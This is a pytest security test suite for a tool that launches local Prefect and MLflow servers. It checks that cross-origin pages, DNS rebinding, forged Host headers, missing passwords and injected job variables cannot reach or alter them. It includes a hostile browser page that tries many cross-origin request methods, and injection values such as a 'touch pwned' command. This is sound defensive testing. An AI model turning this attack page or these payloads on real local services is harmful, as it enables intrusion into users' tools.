"""What `fer up` started, and pages of other sites in a real browser, foreign names, other users, and its own end."""

import http.server
import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from importlib.metadata import version
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest
from lab import Lab, free_port, wait_for
from websockets.sync.client import connect

from tasks.services.descendants import mark_of, marked
from tasks.services.home import HOME

pytestmark = pytest.mark.slow

CONFIG = {"name": "gate", "data_root": "data"}
BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with Lab(tmp_path_factory.mktemp("gate"), CONFIG, watched=False) as lab:
        yield lab


def urls(lab: Lab) -> tuple[str, str]:
    prefect, mlflow = (f"http://127.0.0.1:{port}" for port in lab.ports)
    return prefect, mlflow


def attempts(lab: Lab, host: str) -> list[tuple[str, str]]:
    """Address and body of requests that would run commands, or write or read records."""
    prefect, mlflow = (f"http://{host}:{port}" for port in lab.ports)
    run = f"{prefect}/api/deployments/{lab.deployment('full-study')}/create_flow_run"
    return [
        (run, '{"job_variables": {"command": "touch pwned"}}'),
        (run, "{}"),
        (f"{prefect}/api/flow_runs/filter", "{}"),
        (f"{prefect}/api/variables/", '{"name": "pwned", "value": "pwned"}'),
        (f"{prefect}/api/flows/", '{"name": "pwned"}'),
        (f"{mlflow}/api/2.0/mlflow/experiments/create", '{"name": "pwned"}'),
        (f"{mlflow}/ajax-api/2.0/mlflow/experiments/create", '{"name": "pwned"}'),
        (f"{mlflow}/api/2.0/mlflow/experiments/search", '{"max_results": 10}'),
    ]


def records(lab: Lab) -> tuple[Any, ...]:
    """What there is of what the attempts would make."""
    runs = [run["id"] for name in ("full-study", "new-videos", "gpu", "report") for run in lab.flow_runs(name)]
    flows = sorted(flow["name"] for flow in lab.prefect("flows/filter"))
    variables = lab.prefect("variables/filter")
    experiments = sorted(found["name"] for found in lab.mlflow("experiments/search", max_results=50)["experiments"])
    return runs, flows, variables, experiments, [*lab.folder.rglob("pwned*")]


#: Tries all ways in which a page can send something to another origin, and tells the page's own server what it got.
PAGE = """<!doctype html><title>evil</title><iframe name=hole style="display:none"></iframe><script>
const attempts = ATTEMPTS, got = [];
async function one(url, body) {
  const ways = [
    ["cors, json", {method: "POST", headers: {"Content-Type": "application/json"}, body}],
    ["cors, text", {method: "POST", headers: {"Content-Type": "text/plain"}, body}],
    ["cors, with credentials", {method: "POST", credentials: "include", headers: {"Content-Type": "text/plain"}, body}],
    ["no-cors", {method: "POST", mode: "no-cors", credentials: "include", body}],
    ["get", {}],
  ];
  for (const [name, options] of ways) {
    try {
      const answer = await fetch(url, options);
      const text = answer.type == "opaque" ? "" : await answer.text();
      if (text) got.push([name, url, answer.status, text.slice(0, 100)]);
    } catch (error) {}
  }
  navigator.sendBeacon(url, body);
  const form = document.createElement("form");
  form.method = "POST"; form.action = url; form.enctype = "text/plain"; form.target = "hole";
  const field = document.createElement("input");
  field.name = body.slice(0, -1) + (body.length > 2 ? "," : "") + '"ignored": "'; field.value = '"}';
  form.append(field); document.body.append(form); form.submit();
  const picture = new Image(); picture.src = url;
  const script = document.createElement("script"); script.src = url; document.head.append(script);
  await new Promise(resolve => {
    let socket;
    try { socket = new WebSocket(url.replace("http", "ws").replace(/api.*/, "api/events/out"), "prefect"); }
    catch (error) { return resolve(); }
    socket.onopen = () => { got.push(["web socket", url, 101, "open"]); socket.close(); resolve(); };
    socket.onerror = resolve;
  });
}
onload = async () => { for (const [url, body] of attempts) await one(url, body); fetch("/got", {method: "POST",
  body: JSON.stringify(got)}); };
</script><body></body>"""


class EvilSite:
    """A site on a port of its own; what its page reports is in `got` when the page is through."""

    def __init__(self, page: str) -> None:
        self.got: list[str] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode() if self.path == "/" else b"")

            def do_POST(self) -> None:
                site.got.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)

    def url(self, name: str) -> str:
        return f"http://{name}:{self._server.server_port}/"

    def __enter__(self) -> "EvilSite":
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


class Browser:
    """A browser that shows one page, where all names that end with `.test` lead to this machine."""

    def __init__(self, url: str, folder: Path) -> None:
        assert BROWSER
        options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'browser'}"]
        names = "--host-resolver-rules=MAP *.test 127.0.0.1"
        self._port = folder / "browser" / "DevToolsActivePort"
        self._process = subprocess.Popen(
            [BROWSER, *options, names, "--remote-debugging-port=0", url], stderr=subprocess.DEVNULL
        )

    def __enter__(self) -> "Browser":
        return self

    def __exit__(self, *_: object) -> None:
        self._process.terminate()
        self._process.wait()

    def run(self, script: str) -> Any:
        """What a script gives that is run in the page."""
        wait_for("the browser", self._port.is_file, 120)
        pages = httpx.get(f"http://127.0.0.1:{self._port.read_text().split()[0]}/json").json()
        address = next(page["webSocketDebuggerUrl"] for page in pages if page["type"] == "page")
        how = {"expression": script, "returnByValue": True, "awaitPromise": True}
        question = {"id": 1, "method": "Runtime.evaluate", "params": how}
        with connect(address, max_size=None) as socket:
            socket.send(json.dumps(question))
            while (answer := json.loads(socket.recv())).get("id") != 1:
                pass
        return answer.get("result", {}).get("result", {}).get("value")

    def wait_for(self, text: str) -> None:
        """Wait until the page shows a text."""
        wait_for(text, lambda: text in str(self.run("document.body ? document.body.innerText : ''")), 120)


@pytest.mark.skipif(BROWSER is None, reason="no Chromium to open a page with")
@pytest.mark.parametrize(
    ("site", "server"),
    [
        ("evil.test", "127.0.0.1"),
        ("127.0.0.1", "127.0.0.1"),  # another port of this machine: another user's program
        ("localhost", "localhost"),
        ("evil.test", "evil.test"),  # its name leads to this machine: DNS rebinding, when the port is the same
    ],
)
def test_a_page_of_another_site_reaches_nothing(site: str, server: str, lab: Lab, tmp_path: Path) -> None:
    before = records(lab)
    tried = [list(attempt) for attempt in attempts(lab, server)]
    with EvilSite(PAGE.replace("ATTEMPTS", json.dumps(tried))) as evil, Browser(evil.url(site), tmp_path):
        wait_for("the page", lambda: evil.got, 120)
    assert evil.got == ["[]"], "the page could read nothing"
    assert records(lab) == before


@pytest.mark.skipif(BROWSER is None, reason="no Chromium to open a page with")
def test_a_site_whose_name_is_made_to_lead_here_reaches_nothing(lab: Lab, tmp_path: Path) -> None:
    """DNS rebinding: the browser takes the server for the site's own, so no rule about origins holds it back."""
    before = records(lab)
    sent = "fetch({url!r}, {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: {body!r}}})"
    for port in lab.ports:
        with Browser(f"http://evil.test:{port}/", tmp_path / str(port)) as browser:
            browser.wait_for("This server does not go by that name.")
            for url, body in attempts(lab, "evil.test"):
                if f":{port}/" in url:
                    assert browser.run(f"{sent.format(url=url, body=body)}.then(answer => answer.status)") == 403
    assert records(lab) == before


@pytest.mark.skipif(BROWSER is None, reason="no Chromium to open a page with")
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_their_own_pages_work_for_who_knows_the_password(name: str, lab: Lab, tmp_path: Path) -> None:
    user, password = lab.password
    prefect, mlflow = lab.ports
    with Browser(f"http://{name}:{prefect}/v2/deployments", tmp_path) as browser:
        browser.wait_for("Login")
        known = f"localStorage.setItem('prefect-password', btoa('{user}:{password}'))"
        browser.run(f"{known}; location.assign('/v2/deployments')")
        browser.wait_for("full-study")
        browser.run("location.assign('/deployments')")
        browser.wait_for("full-study")
        browser.run(f"location.assign('http://{user}:{password}@{name}:{mlflow}/version')")  # as typed when asked
        browser.wait_for(version("mlflow"))
        browser.run(f"location.assign('http://{name}:{mlflow}/#/experiments')")
        browser.wait_for("Default")


@pytest.mark.parametrize("host", ["evil.test", "evil.test:{port}", "127.0.0.1.evil.test", "10.0.0.1"])
def test_a_foreign_name_gets_nothing(host: str, lab: Lab) -> None:
    for url, port, path in zip(urls(lab), lab.ports, ("/api/health", "/health"), strict=True):
        assert httpx.get(url + path).is_success
        headers = {"Host": host.format(port=port)}
        for address in (url + path, url):
            assert httpx.get(address, headers=headers, auth=lab.password).status_code == httpx.codes.FORBIDDEN


def test_who_does_not_know_the_password_gets_nothing(lab: Lab) -> None:
    before = records(lab)
    for auth in (None, ("fer", ""), ("fer", "fer"), ("admin", "password1234")):
        for url, body in attempts(lab, "127.0.0.1"):
            assert httpx.post(url, content=body, auth=auth).status_code == httpx.codes.UNAUTHORIZED
    assert records(lab) == before


@pytest.mark.parametrize(
    "variables",
    [
        {"command": "touch pwned"},
        {"env": {"PYTHONPATH": "evil"}},
        {"env.PYTHONPATH": "evil"},
        {"working_dir": "/"},
        {"labels": {"a": "b"}},
    ],
)
def test_a_run_cannot_choose_what_a_worker_executes(variables: dict[str, Any], lab: Lab) -> None:
    before = records(lab)
    with pytest.raises(httpx.HTTPStatusError) as refused:
        lab.prefect(f"deployments/{lab.deployment('report')}/create_flow_run", job_variables=variables)
    assert refused.value.response.status_code == httpx.codes.UNPROCESSABLE_ENTITY
    assert records(lab) == before


def test_commands_in_the_folder_find_the_password(lab: Lab) -> None:
    for words in (("prefect", "deployment", "ls"), ("prefect", "work-pool", "ls"), ("fer", "status")):
        done = lab.run(*words)
        assert "Unauthorized" not in done.stdout + done.stderr
        assert (done.returncode == 0) == (words[0] == "prefect"), done.stderr  # nothing is prepared here
    doctor = lab.run("fer", "doctor").stdout
    assert "refuses these credentials" not in doctor
    assert doctor.count(" answers") >= 2


def test_what_the_services_keep_is_private(lab: Lab) -> None:
    home = lab.folder / HOME
    for path in (home, *home.rglob("*.db*"), home / "password", home / "logs", lab.folder / "prefect.toml"):
        assert not path.stat().st_mode & 0o077, path
    password = lab.password[1]
    assert password not in lab.said
    assert lab.process
    for process in psutil.Process(lab.process.pid).children(recursive=True):
        assert password not in " ".join(process.cmdline())


def test_a_server_of_somebody_else_is_not_taken_for_one_of_ours(lab: Lab, tmp_path: Path) -> None:
    taken = socket.create_server(("127.0.0.1", 0))
    with taken:
        ports = ["--prefect-port", str(taken.getsockname()[1]), "--mlflow-port", str(free_port())]
        done = subprocess.run(
            [lab.command[0], "up", *ports],
            cwd=tmp_path,
            env=lab.environment,
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )
    assert done.returncode == 1
    assert "Prefect server cannot listen" in done.stderr


@pytest.mark.faults
def test_all_ends_with_a_killed_fer_up_and_the_next_one_starts(tmp_path: Path) -> None:
    lab = Lab(tmp_path, CONFIG, watched=False).__enter__()
    assert lab.process
    started = psutil.Process(lab.process.pid).children(recursive=True)
    assert len(started) > 4
    lab.process.kill()
    lab.process.wait()
    wait_for("the end of all", lambda: not any(process.is_running() for process in started), 60)
    assert marked(mark_of(tmp_path / HOME)) == []
    wait_for("the end of the record", lambda: not (tmp_path / "prefect.toml").exists(), 60)
    with Lab(tmp_path, CONFIG, watched=False) as again:
        assert again.flow_runs("full-study") == []
